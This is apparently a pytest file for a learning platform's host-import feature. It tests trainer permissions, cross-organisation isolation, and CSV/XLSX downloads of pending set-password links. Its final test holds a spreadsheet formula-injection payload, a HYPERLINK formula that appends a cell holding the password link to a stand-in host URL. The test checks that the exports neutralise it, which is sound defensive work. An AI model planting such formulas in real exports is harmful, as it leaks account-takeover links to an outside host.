"""Item 10 of issue 22: an MCN may let its trainers import hosts; the first set-password links still waiting to be
used can be printed as QR codes and downloaded (CSV, XLSX) from the import result and the organisation page."""

import csv
import io
import re
from datetime import timedelta

from openpyxl import load_workbook
from sqlalchemy import select, update

from lms.accounts.models import PasswordResetToken, User
from lms.db import get_session, utcnow
from lms.orgs.firstlinks import mask_login
from lms.orgs.models import HostImport, Organisation
from tests.conftest import PASSWORD, Browserish
from tests.web.test_catalogue import example  # noqa: F401 - fixture
from tests.web.test_host_import import GOOD_CSV, URL, confirm, mcn, path_of, upload  # noqa: F401 - fixture

TRAINER_CSV = "昵称,手机号,邮箱\n阿杰,13900139000,\n小红,13700137000,\n小美,,mei@example.com\n"


def trainer_client(app) -> Browserish:
    web = Browserish(app.test_client())
    web.login("trainer@example.com", PASSWORD)
    return web


def allow_trainers(mcn, on: bool):  # noqa: F811
    data = {"trainers_import_hosts": "y"} if on else {}
    return mcn.post("/orgs/mcn-a/settings", data, form_page="/orgs/mcn-a/", follow_redirects=True)


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_mask_login():
    assert mask_login("13900139000") == "139****9000"
    assert mask_login("mei@example.com") == "m***@example.com"


def test_trainers_import_only_while_the_org_admin_allows_it(app, mcn):  # noqa: F811
    trainer = trainer_client(app)
    assert trainer.get(URL).status_code == 403
    assert "/orgs/mcn-a/hosts/import" not in trainer.get("/orgs/mcn-a/").get_data(as_text=True)
    assert "trainers_import_hosts" not in trainer.get("/orgs/mcn-a/").get_data(as_text=True)  # the admin's setting
    assert trainer.post("/orgs/mcn-a/settings", {"trainers_import_hosts": "y"}, form_page="/account/").status_code == 403
    with app.app_context():
        assert get_session().scalar(select(Organisation.trainers_import_hosts).where(Organisation.slug == "mcn-a")) is False

    page = allow_trainers(mcn, True).get_data(as_text=True)
    assert "Settings saved: trainers may import hosts." in page
    assert re.search(r'<input[^>]*checked[^>]*id="trainers_import_hosts"|<input[^>]*id="trainers_import_hosts"[^>]*checked', page)
    org_page = trainer.get("/orgs/mcn-a/").get_data(as_text=True)
    assert "/orgs/mcn-a/hosts/import" in org_page and "No set-password link is waiting" in org_page
    assert trainer.get(URL).status_code == 200
    result = confirm(trainer, upload(trainer, TRAINER_CSV.encode()).get_data(as_text=True))
    html = result.get_data(as_text=True)
    assert result.status_code == 200 and "Hosts created: 3." in html
    assert len(re.findall(r"http://[^<\s]+/account/reset/[\w-]+", html)) == 2  # the phone-only hosts
    assert "Download the links (CSV)" in html and "Printable sheet of the links still unused" in html
    assert "an organisation admin can make a new one" in html  # a trainer cannot renew links
    assert "/orgs/mcn-a/hosts/import" in trainer.get("/orgs/mcn-a/cohorts").get_data(as_text=True)
    detail_url = re.search(r'href="(/orgs/mcn-a/hosts/imports/\d+)"', trainer.get(URL).get_data(as_text=True)).group(1)
    detail = trainer.get(detail_url).get_data(as_text=True)
    assert detail.count("not chosen yet") == 3 and "set-password-link" not in detail  # new links: admins only
    assert "first-links.csv?import=" in detail
    assert "set-password-link" in mcn.get(detail_url).get_data(as_text=True)

    allow_trainers(mcn, False)
    assert trainer.get(URL).status_code == 403
    assert "/orgs/mcn-a/hosts/import" not in trainer.get("/orgs/mcn-a/cohorts").get_data(as_text=True)
    assert trainer.get("/orgs/mcn-a/hosts/first-links.csv").status_code == 403
    assert "/orgs/mcn-a/hosts/import" not in trainer.get("/orgs/mcn-a/").get_data(as_text=True)


def test_pending_links_download_lists_only_unused_unexpired_links(app, mcn, web):  # noqa: F811
    result = confirm(mcn, upload(mcn, TRAINER_CSV.encode()).get_data(as_text=True)).get_data(as_text=True)
    shown = re.findall(r"http://[^<\s]+/account/reset/[\w-]+", result)
    csv_url = re.search(r'href="(/orgs/mcn-a/hosts/first-links\.csv\?import=\d+)"', result).group(1)
    r = mcn.get(csv_url)
    assert r.headers["Content-Type"].startswith("text/csv") and r.headers["Cache-Control"] == "no-store"
    rows = csv_rows(r.data)
    assert rows[0] == ["Host", "Mobile number or email (masked)", "Cohort", "Set-password link", "Valid until (China time)"]
    by_name = {row[0]: row for row in rows[1:]}
    assert set(by_name) == {"阿杰", "小红", "小美"}  # the email host's mailed link is pending too, until used
    assert by_name["阿杰"][1] == "139****9000" and by_name["小美"][1] == "m***@example.com"
    assert by_name["阿杰"][3] in shown and by_name["小红"][3] in shown
    assert "13900139000" not in r.data.decode("utf-8-sig")
    with app.app_context():
        expires = get_session().scalar(select(PasswordResetToken.expires_at).order_by(PasswordResetToken.id.desc()))
    china = (expires + timedelta(hours=8)).strftime("%Y-%m-%d %H:%M")
    assert by_name["小红"][4] == china

    # 阿杰 sets a password with the link; 小红's link runs out: neither is listed any more.
    assert web.post(path_of(by_name["阿杰"][3]), {"password": "new secret 123"}).status_code == 302
    with app.app_context():
        session = get_session()
        hong = session.scalar(select(User.id).where(User.phone == "13700137000"))
        session.execute(update(PasswordResetToken).where(PasswordResetToken.user_id == hong)
                        .values(expires_at=utcnow() - timedelta(minutes=1)))  # fmt: skip
        session.commit()
    assert [row[0] for row in csv_rows(mcn.get(csv_url).data)[1:]] == ["小美"]

    # The organisation page counts them and links the sheet and the downloads; the XLSX holds the same rows.
    org_page = mcn.get("/orgs/mcn-a/").get_data(as_text=True)
    assert "1 imported hosts have a set-password link they have not used yet." in org_page
    assert 'href="/orgs/mcn-a/hosts/first-links"' in org_page
    book = load_workbook(io.BytesIO(mcn.get("/orgs/mcn-a/hosts/first-links.xlsx").data))
    values = [[c.value for c in row] for row in book.active.iter_rows()]
    assert values[0][0] == "Host" and [v[0] for v in values[1:]] == ["小美"]
    sheet = mcn.get("/orgs/mcn-a/hosts/first-links").get_data(as_text=True)
    assert sheet.count('class="qr-slip"') == 1 and "m***@example.com" in sheet and "<svg" in sheet


def test_a_renewed_link_replaces_the_first_in_the_pending_list(app, mcn):  # noqa: F811
    confirm(mcn, upload(mcn, GOOD_CSV.encode()).get_data(as_text=True))
    first = {row[0]: row[3] for row in csv_rows(mcn.get("/orgs/mcn-a/hosts/first-links.csv").data)[1:]}
    with app.app_context():
        jie = get_session().scalar(select(User.id).where(User.phone == "13900139000"))
    html = mcn.post(f"/orgs/mcn-a/members/{jie}/set-password-link", {}, form_page="/orgs/mcn-a/").get_data(as_text=True)
    (renewed,) = re.findall(r"http://[^<\s]+/account/reset/[\w-]+", html)
    now = {row[0]: row[3] for row in csv_rows(mcn.get("/orgs/mcn-a/hosts/first-links.csv").data)[1:]}
    assert now["阿杰"] == renewed != first["阿杰"]


def test_another_organisation_sees_none_of_the_links(app, mcn):  # noqa: F811
    confirm(mcn, upload(mcn, GOOD_CSV.encode()).get_data(as_text=True))
    other = Browserish(app.test_client())
    other.login("otheradmin@example.com", PASSWORD)
    assert other.get("/orgs/mcn-a/hosts/first-links.csv").status_code == 404
    assert csv_rows(other.get("/orgs/mcn-b/hosts/first-links.csv").data)[1:] == []
    with app.app_context():
        import_id = get_session().scalar(select(HostImport.id))  # mcn-a's import: not one of mcn-b's
    assert other.get(f"/orgs/mcn-b/hosts/first-links.csv?import={import_id}").status_code == 404


def test_a_name_written_as_a_formula_stays_text_in_both_downloads(app, mcn):  # noqa: F811
    confirm(mcn, upload(mcn, GOOD_CSV.encode()).get_data(as_text=True))
    formula = '=HYPERLINK("http://x/?"&C2,"点我")'
    with app.app_context():
        session = get_session()
        session.scalar(select(User).where(User.phone == "13900139000")).display_name = formula
        session.commit()
    rows = csv_rows(mcn.get("/orgs/mcn-a/hosts/first-links.csv").data)
    assert "'" + formula in [row[0] for row in rows]
    book = load_workbook(io.BytesIO(mcn.get("/orgs/mcn-a/hosts/first-links.xlsx").data))
    cells = [row[0] for row in book.active.iter_rows()]
    cell = next(c for c in cells if c.value == formula)
    assert cell.data_type == "s" and cell.quotePrefix
